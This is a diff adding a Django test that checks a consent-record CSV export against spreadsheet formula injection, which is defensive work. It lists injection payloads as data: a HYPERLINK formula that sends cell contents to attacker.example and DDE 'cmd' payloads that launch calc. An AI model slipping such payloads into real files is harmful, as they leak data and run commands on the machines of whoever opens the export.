@@ -183,6 +183,46 @@ def test_csv_export_for_admins(published_a, alice):
     assert rows[1][8].startswith("Yes, send me order updates text messages from Acme Anvils")
 
 
+HOSTILE_CELLS = [
+    '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+@pytest.mark.django_db
+def test_csv_export_neutralises_formula_cells(published_a, alice):
+    """A visitor's User-Agent reached the export as a live formula (issue 12). The first one
+    comes through the real opt-in page, the rest are copies with other agents."""
+    client = client_for(None)
+    data = optin_post_data(client, URL)
+    client.post(URL, data, REMOTE_ADDR="203.0.113.7", HTTP_USER_AGENT=HOSTILE_CELLS[0])
+    first = ConsentRecord.objects.get()
+    for agent in HOSTILE_CELLS[1:]:
+        first.pk = None
+        first.user_agent = agent
+        first.save()
+    ConsentRecord.objects.filter(pk=first.pk).update(confirmation_note="-")
+    response = client_for(alice).get("/t/acme/compliance/consents/export.csv")
+    raw = b"".join(response.streaming_content).decode()
+    rows = list(csv.reader(io.StringIO(raw)))
+    agents = [row[10] for row in rows[1:]]
+    assert agents == ["'" + agent for agent in HOSTILE_CELLS]
+    assert rows[1][2] == "+12065550123"  # a phone number is a number, left as it is
+    assert rows[-1][12] == "'-"
+    for row in rows[1:]:
+        for value in row:
+            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) or (
+                value == "+12065550123"
+            )
+    # Every cell is quoted: a separator inside a value cannot open a new cell.
+    assert raw.splitlines()[0].startswith('"created_at","action",')
+
+
 @pytest.mark.django_db
 def test_csv_export_is_refused_to_members_other_tenants_and_anonymous(published_a, bob, carol):
     url = "/t/acme/compliance/consents/export.csv"
